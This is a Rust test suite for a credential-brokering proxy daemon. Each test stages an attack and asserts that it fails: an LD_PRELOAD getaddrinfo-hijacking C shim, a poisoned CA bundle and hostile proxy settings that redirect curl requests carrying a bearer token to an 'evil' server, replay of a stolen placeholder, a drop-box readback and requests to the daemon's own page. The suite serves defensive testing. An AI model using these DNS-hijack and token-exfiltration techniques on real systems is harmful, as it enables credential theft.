//! The daemon's egress, attacked. The command under a grant, and the agent
//! that starts it, control its environment, its resolver and its dynamic
//! linker, can run servers of their own and talk to any allowed API. Each
//! test plays one such attack through the real binary, a real daemon and
//! local TLS servers, and shows that the value reaches only its upstream.

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::harness::{Daemon, Home, Ran, fake_value};
use crate::proxy_upstream::Upstream;

/// The allowed API's name; the daemon reaches it through its own
/// `--egress-resolve`, the agent's processes through their resolver.
const API: &str = "api.example.test";

fn have(tool: &str) -> bool {
    Command::new(tool)
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// A home, its daemon (told by its operator where the API is and which CA
/// it uses), the API and an active grant for `api/token`.
struct Granted {
    home: Home,
    value: String,
    api: Upstream,
    grant: String,
    _daemon: Daemon,
}

impl Granted {
    fn new() -> Self {
        let home = Home::with_approver();
        let value = fake_value("api");
        home.set("api/token", &value);
        home.write_policy(&format!(
            r#"
[actors.web]
kind = "agent"

[[rules]]
actors   = ["web"]
secrets  = ["api/token"]
hosts    = ["{API}"]
max_ttl  = "10m"
approval = "auto"
"#
        ));
        let api = Upstream::start(&home.scratch().join("api"), &value);
        let resolve = format!("{API}={}", api.addr);
        let daemon = home.serve_with(&[
            "--egress-ca".as_ref(),
            api.ca.as_os_str(),
            "--egress-resolve".as_ref(),
            resolve.as_ref(),
        ]);
        let (grant, status) = home.request("web", &["api/token"], &[]);
        assert_eq!(status, "active");
        Self {
            home,
            value,
            api,
            grant,
            _daemon: daemon,
        }
    }

    /// `warrant run --proxy --grant G --env TOKEN=warrant://api/token -- sh -c script`,
    /// with `env` set for warrant itself (and so for everything it starts).
    fn run(&self, script: &str, env: &[(&str, &std::ffi::OsStr)]) -> Ran {
        let mut command = self.home.std_cmd();
        command
            .args(["run", "--proxy", "--no-tty", "--grant", &self.grant])
            .args(["--env", "TOKEN=warrant://api/token", "--", "sh", "-c"])
            .arg(script)
            .stdin(Stdio::null());
        for (var, value) in env {
            command.env(var, value);
        }
        let output = command.output().expect("warrant run");
        Ran {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    /// Requests the API saw carrying the value.
    fn api_got_value(&self) -> usize {
        self.api
            .seen()
            .iter()
            .filter(|r| r.to_string().contains(&self.value))
            .count()
    }

    fn url(&self, path: &str) -> String {
        format!("https://{API}:{}{path}", self.api.addr.port())
    }
}

/// A `getaddrinfo` that sends `name` to `to`: what an agent preloads into
/// the processes it starts.
fn resolver_shim(dir: &Path, name: &str, to: &str) -> Option<PathBuf> {
    if !have("gcc") {
        eprintln!("skipped: no gcc to build the LD_PRELOAD shim");
        return None;
    }
    let source = dir.join("shim.c");
    std::fs::write(
        &source,
        format!(
            r#"#define _GNU_SOURCE
#include <dlfcn.h>
#include <netdb.h>
#include <string.h>
int getaddrinfo(const char *node, const char *service, const struct addrinfo *hints,
                struct addrinfo **res) {{
    int (*real)(const char *, const char *, const struct addrinfo *, struct addrinfo **) =
        dlsym(RTLD_NEXT, "getaddrinfo");
    if (node && strcmp(node, "{name}") == 0) node = "{to}";
    return real(node, service, hints, res);
}}
"#
        ),
    )
    .unwrap();
    let shim = dir.join("shim.so");
    let built = Command::new("gcc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&shim)
        .arg(&source)
        .arg("-ldl")
        .status()
        .unwrap();
    assert!(built.success(), "the shim did not build");
    Some(shim)
}

/// The attack of the review: `LD_PRELOAD` a resolver that sends the
/// allowed name to the agent's own server (same port, another loopback
/// address, a certificate for the name from the agent's own CA), and point
/// `SSL_CERT_FILE`, `HTTPS_PROXY` and `--upstream-ca` at the agent's own
/// things. The daemon resolves, connects and checks certificates itself:
/// the value goes to the real API, the agent's server sees a placeholder
/// at most.
#[test]
fn the_command_cannot_choose_where_the_value_goes() {
    if !have("curl") {
        return;
    }
    let g = Granted::new();
    let scratch = g.home.scratch();
    let Some(shim) = resolver_shim(&scratch, API, "127.0.0.2") else {
        return;
    };
    // The agent's server, where the API's name now leads for its processes.
    let bait = fake_value("bait");
    let evil = Upstream::start_at(
        &scratch.join("evil"),
        &bait,
        SocketAddr::from(([127, 0, 0, 2], g.api.addr.port())),
    );
    let mut bundle = std::fs::read(&evil.ca).unwrap();
    bundle.extend(std::fs::read("/etc/ssl/certs/ca-certificates.crt").unwrap_or_default());
    let evil_bundle = scratch.join("evil-bundle.pem");
    std::fs::write(&evil_bundle, bundle).unwrap();
    let script = format!(
        r#"curl -sS -o /dev/null -w "egress:%{{http_code}}\n" -H "Authorization: Bearer $TOKEN" {api}
curl -sS -o /dev/null -w "direct:%{{http_code}}\n" --noproxy '*' --cacert {ca} -H "Authorization: Bearer $TOKEN" {api}"#,
        api = g.url("/echo"),
        ca = evil.ca.display(),
    );
    let evil_proxy = format!("http://{}", evil.addr);
    let ran = g.run(
        &script,
        &[
            ("LD_PRELOAD", shim.as_os_str()),
            ("SSL_CERT_FILE", evil_bundle.as_os_str()),
            ("HTTPS_PROXY", evil_proxy.as_ref()),
        ],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains("egress:200"), "{ran:?}");
    // The shim worked: the command's own connection reached the agent's
    // server, carrying what the command holds, a placeholder.
    assert!(ran.stdout.contains("direct:200"), "{ran:?}");
    assert_eq!(evil.seen().len(), 1, "{:?}", evil.seen());
    assert!(evil.seen_text().contains("wph_"));
    assert!(
        !evil.seen_text().contains(&g.value),
        "the agent's server got the value"
    );
    assert_eq!(g.api_got_value(), 1, "the API got the value once");
    assert!(!ran.stdout.contains(&g.value) && !ran.stderr.contains(&g.value));
    // The record says where exactly the value went.
    let audit = std::fs::read_to_string(g.home.path().join("audit.jsonl")).unwrap();
    let substituted: serde_json::Value = audit
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|r| r["event"] == "substituted")
        .expect("a substituted record");
    assert_eq!(substituted["host"], API);
    assert_eq!(substituted["scheme"], "https");
    assert_eq!(substituted["port"], g.api.addr.port());
    assert_eq!(substituted["path"], "/echo");

    // A CA of the command's choosing is refused outright under a grant.
    let mut command = g.home.std_cmd();
    let refused = command
        .args(["run", "--proxy", "--grant", &g.grant, "--upstream-ca"])
        .arg(&evil.ca)
        .args(["--env", "TOKEN=warrant://api/token", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("--egress-ca"));
}

/// Someone who learnt a placeholder and the egress's address (another
/// user reading `/proc/*/cmdline`, another process of the same user) sends
/// it through the egress without the session's access secret: 407, and
/// nothing reaches the API.
#[test]
fn a_placeholder_without_the_session_secret_gets_nothing() {
    if !have("curl") {
        return;
    }
    let g = Granted::new();
    let script = format!(
        r#"addr=${{HTTPS_PROXY##*@}}
echo "secret-in-url:$(printf %s "$HTTPS_PROXY" | grep -c '^http://warrant:[0-9a-f]\{{64\}}@')"
curl -sS -o /dev/null -w "stranger:%{{http_code}}\n" --proxy "http://$addr" --cacert "$SSL_CERT_FILE" -H "Authorization: Bearer $TOKEN" {api}
curl -sS -o /dev/null -w "guess:%{{http_code}}\n" --proxy "http://warrant:0000@$addr" --cacert "$SSL_CERT_FILE" -H "Authorization: Bearer $TOKEN" {api}
curl -sS -o /dev/null -w "plain:%{{http_code}}\n" --proxy "http://$addr" "http://{API}/?t=$TOKEN"
curl -sS -o /dev/null -w "holder:%{{http_code}}\n" -H "Authorization: Bearer $TOKEN" {api}"#,
        api = g.url("/echo"),
    );
    let ran = g.run(&script, &[]);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains("secret-in-url:1"), "{ran:?}");
    // curl reports a CONNECT answered 407 as 407 (or 000 when it gives up).
    for who in ["stranger", "guess", "plain"] {
        let line = ran
            .stdout
            .lines()
            .find(|l| l.starts_with(who))
            .unwrap_or_default();
        assert!(
            line.ends_with(":407") || line.ends_with(":000"),
            "{who} got through: {ran:?}"
        );
    }
    assert!(ran.stdout.contains("holder:200"), "{ran:?}");
    assert_eq!(g.api_got_value(), 1, "only the holder's request carried it");
}

/// An allowed API that keeps what it is sent is a drop box: the value is
/// stored with one request and read back with others that carry no
/// placeholder: in a later session, in pieces, and through a long poll sent
/// before the value was ever substituted. Every response through the
/// egress is redacted for every value of the grant, from the first byte.
#[test]
fn what_an_allowed_api_keeps_comes_back_redacted() {
    if !have("curl") {
        return;
    }
    let g = Granted::new();
    let stored = |path: &str| g.url(path);
    // One session: the long poll goes out first, then the value is stored.
    let script = format!(
        r#"curl -sS {wait} > long-poll.out & poll=$!
sleep 0.5
curl -sS -o /dev/null -H "Authorization: Bearer $TOKEN" -X POST {store}
wait $poll; echo "long-poll:$(cat long-poll.out)""#,
        wait = stored("/wait-stored"),
        store = stored("/store"),
    );
    let first = g.run(
        &format!("cd {} && {script}", g.home.scratch().display()),
        &[],
    );
    assert_eq!(first.code, 0, "{first:?}");
    assert!(
        first
            .stdout
            .contains("long-poll:Bearer <redacted:api/token>"),
        "{first:?}"
    );
    // A later session, which never substituted anything.
    let second = g.run(
        &format!(
            r#"echo "whole:$(curl -sS {whole})""#,
            whole = stored("/stored"),
        ),
        &[],
    );
    assert_eq!(second.code, 0, "{second:?}");
    assert!(
        second.stdout.contains("whole:Bearer <redacted:api/token>"),
        "{second:?}"
    );
    assert_eq!(g.api_got_value(), 1, "stored once");
    for ran in [&first, &second] {
        assert!(!ran.stdout.contains(&g.value), "{ran:?}");
    }
}

/// The daemon's own approval page is no upstream: even when a rule lets a
/// secret go to `localhost`, the egress never connects to the page's
/// addresses, so an agent cannot reach the page as the daemon itself.
#[test]
fn the_egress_never_reaches_the_daemons_own_page() {
    if !have("curl") {
        return;
    }
    let home = Home::with_approver();
    let value = fake_value("api");
    home.set("api/token", &value);
    home.write_policy(
        r#"
[actors.web]
kind = "agent"

[[rules]]
actors   = ["web"]
secrets  = ["api/token"]
hosts    = ["localhost"]
max_ttl  = "10m"
approval = "auto"
"#,
    );
    let _daemon = home.serve_with(&["--ui-port".as_ref(), "0".as_ref()]);
    let url = std::fs::read_to_string(home.path().join("ui-url")).unwrap();
    let port: u16 = url
        .trim()
        .trim_start_matches("http://localhost:")
        .trim_end_matches('/')
        .parse()
        .unwrap();
    let (grant, _) = home.request("web", &["api/token"], &[]);
    let mut command = home.std_cmd();
    let ran = command
        .args(["run", "--proxy", "--no-tty", "--grant", &grant])
        .args(["--env", "TOKEN=warrant://api/token", "--", "sh", "-c"])
        .arg(format!(
            r#"curl -sS -D - -o /dev/null -H "Authorization: Bearer $TOKEN" http://localhost:{port}/api/session"#
        ))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&ran.stdout).to_ascii_lowercase();
    assert!(out.starts_with("http/1.1 502"), "{out}");
    assert!(out.contains("x-warrant-proxy: 1"), "{out}");
    assert!(!String::from_utf8_lossy(&ran.stderr).contains(&value));
}
